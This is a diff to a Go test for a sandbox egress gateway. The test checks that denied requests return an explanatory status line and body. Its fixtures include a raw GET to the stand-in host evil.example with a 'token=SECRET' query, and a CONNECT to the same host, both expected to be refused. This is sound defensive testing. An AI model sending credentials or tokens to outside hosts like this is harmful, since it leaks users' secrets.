@@ -11,8 +11,7 @@ import (
 // TestRefusalsExplainThemselves: a refusal's status line and body tell the
 // agent (and the person reading its output) what was refused, why, and how
 // to allow it, for a plain request and a CONNECT through the explicit proxy
-// (the reason phrase where the gateway writes the status line itself: every
-// CONNECT, intercepted and transparent requests); the upstream sees nothing.
+// (the gateway writes every status line itself); the upstream sees nothing.
 func TestRefusalsExplainThemselves(t *testing.T) {
 	up := newHeaderUpstream(t)
 	h := newHarness(t, policytest.Allow("pypi.org"), names("pypi.org", "evil.example"), nil)
@@ -25,7 +24,7 @@ func TestRefusalsExplainThemselves(t *testing.T) {
 		wantBody   []string
 	}{
 		{"plain GET", "GET http://evil.example:" + p + "/repos/acme/x?token=SECRET HTTP/1.1\r\nHost: evil.example:" + p + "\r\n\r\n",
-			"", // net/http writes the status line of a request goproxy serves
+			"airlock denied evil.example:" + p + " (" + policytest.ReasonNotAllowed + ")",
 			[]string{"policy denies GET evil.example:" + p + "/repos/acme/x", policytest.ReasonNotAllowed, "evil.example is not allowed",
 				"add evil.example:" + p + " to the sandbox's allow list", "policy suggest", "decision "}},
 		{"CONNECT", "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\n\r\n",
